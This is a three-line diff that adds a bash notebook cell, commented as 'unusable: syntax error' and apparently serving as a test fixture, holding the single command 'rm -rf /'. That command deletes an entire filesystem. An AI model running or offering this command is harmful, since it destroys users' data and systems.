@@ -1,0 +1,3 @@
+# unusable: syntax error
+%%bash
+rm -rf /
